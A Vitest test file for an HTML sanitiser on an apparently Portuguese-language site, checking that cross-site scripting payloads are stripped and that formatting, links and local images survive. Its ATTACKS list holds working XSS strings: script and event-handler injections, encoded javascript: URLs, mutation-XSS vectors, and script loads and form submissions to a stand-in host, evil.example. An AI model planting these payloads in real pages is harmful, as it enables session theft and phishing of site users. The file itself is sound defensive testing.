import { describe, expect, it } from 'vitest'
import { plainText, sanitiseBody, sanitisePreview } from './sanitise.server.ts'

const ATTACKS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="/uploads/a.png" onload="alert(1)">',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img src="/uploads/a.png" srcset="https://evil.example/x.png 2x">',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href=" &#1; javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="/x" onclick="alert(1)" style="position:fixed;inset:0">x</a>',
  '<p style="background:url(javascript:alert(1))" onmouseover="alert(1)">x</p>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="https://evil.example"></object><embed src="https://evil.example">',
  '<form action="https://evil.example"><input name="senha"><button formaction="javascript:alert(1)">x</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example"><link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css"</style>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea></textarea><img src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror="alert(1)"></video>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<p id="conteudo" class="container" name="x">x</p>',
  '<span class="container">x</span>',
  '<span class="text-large container">x</span>',
  '<span class="text-large&#32;container">x</span>',
  '<span style="font-size:900px">x</span>',
  '<p class="text-large">x</p>',
  '<div style="position:fixed;inset:0;z-index:9999;background:#fff">x</div>',
  '<font color="white" face="x">x</font>',
  '<a href="https://banco.example@evil.example">x</a>',
]

describe.each([
  ['sanitiseBody', sanitiseBody],
  ['sanitisePreview', sanitisePreview],
])('%s', (_name, sanitise) => {
  it.each(ATTACKS)('disarms %s', async (attack) => {
    const clean = await sanitise(`<p>antes</p>${attack}<p>depois</p>`)
    const tags = clean.match(/<[^>]*>/g) ?? []
    expect(tags.join('')).not.toMatch(
      /script|javascript|vbscript|data:|evil|style|srcset|\son\w+=|\s(?:id|class|name)=|<(?!\/?(?:p|a|img|strong|em|div|ul|ol|li|br|hr|h2|h3|blockquote|figure|figcaption)\b)/i,
    )
    expect(clean).toContain('<p>antes</p>')
  })

  it('changes nothing when it reads its own words again', async () => {
    for (const attack of ATTACKS)
      expect(await sanitise(await sanitise(attack))).toBe(await sanitise(attack))
  })
})

describe('sanitiseBody', () => {
  it('keeps formatting', async () => {
    const html =
      '<h2>Um</h2><h3>Dois</h3><p>Texto <strong>forte</strong> e <em>ênfase</em>.</p>' +
      '<ul><li>a</li></ul><ol><li>b</li></ol><blockquote>c</blockquote>'
    expect(await sanitiseBody(html)).toBe(html)
  })

  it.each(['small', 'medium', 'large'])(
    'keeps %s text, by its class and no style',
    async (size) => {
      const html = `<p><span class="text-${size}">x</span></p>`
      expect(await sanitiseBody(html.replace('>x', ' style="font-size:9em" id="a">x'))).toBe(html)
      expect(await sanitisePreview(html)).toBe('<p>x</p>')
      expect(plainText(html)).toBe('x')
    },
  )

  it('keeps what stands in a span of no size, and the sizes within it', async () => {
    const html =
      '<p>a<span class="x">b<span class="text-large">c<span id="y">d</span></span><img src="x">e</span>f</p><p>g</p>'
    expect(await sanitiseBody(html)).toBe('<p>ab<span class="text-large">cd</span>ef</p><p>g</p>')
  })

  it('reads the sizes that the specification numbers', async () => {
    expect(
      await sanitiseBody('<p>a<font size="5" color="#fff">b</font><font size="9">c</font></p>'),
    ).toBe('<p>a<span class="text-large">b</span>c</p>')
  })

  it('leaves nothing that looks like a link where none leads', async () => {
    expect(await sanitiseBody('<p>a <a href="javascript:x">b <em>c</em></a></p>')).toBe(
      '<p>a b <em>c</em></p>',
    )
  })

  it('brings headings under that of the page, and old tags to their meaning', async () => {
    expect(await sanitiseBody('<h1>a</h1><h4>b</h4><b>c</b><i>d</i>')).toBe(
      '<h2>a</h2><h3>b</h3><strong>c</strong><em>d</em>',
    )
  })

  it('opens what leads outside in a new tab that knows nothing of this one', async () => {
    const outside = 'target="_blank" rel="noopener nofollow"'
    expect(await sanitiseBody('<a href="https://a.example/b" rel="opener">x</a>')).toBe(
      `<a href="https://a.example/b" ${outside}>x</a>`,
    )
    // Browsers take a backslash for a slash.
    for (const href of ['//a.example', '/\\a.example']) {
      const clean = await sanitiseBody(`<a href="${href}">x</a>`)
      expect(clean === '<a>x</a>' || clean.includes(outside)).toBe(true)
    }
  })

  it.each(['/softwares/ERP', '#prazos', '?page=2', 'mailto:a@b.example'])(
    'keeps %s',
    async (href) => {
      expect(await sanitiseBody(`<a href="${href}" target="_top">x</a>`)).toBe(
        `<a href="${href}">x</a>`,
      )
    },
  )

  it('keeps our own pictures, with their text', async () => {
    expect(await sanitiseBody('<img src="/uploads/a/b.png?v=1" alt="Gráfico" width="800">')).toBe(
      '<img src="/uploads/a/b.png?v=1" alt="Gráfico" width="800" loading="lazy" />',
    )
  })

  it.each([
    'http://a.example/b.png',
    'https://a.example/b.png',
    '//a.example/b.png',
    '/v1/logout',
    '/uploads/../v1/x',
    '',
  ])('drops a picture at %s', async (src) => {
    expect(await sanitiseBody(`<p>a<img src="${src}"></p>`)).toBe('<p>a</p>')
  })
})

describe('sanitisePreview', () => {
  it('has neither headings nor pictures', async () => {
    expect(await sanitisePreview('<h2>Sobre</h2><p>a<img src="/uploads/a.png"></p>')).toBe(
      '<strong>Sobre</strong><p>a</p>',
    )
  })
})

describe('plainText', () => {
  it('parts blocks, joins words, and reads entities', () => {
    expect(plainText('<h2>Um</h2><p>D<strong>oi</strong>s &amp; &lt;três&gt;</p>')).toBe(
      'Um Dois & <três>',
    )
  })
})
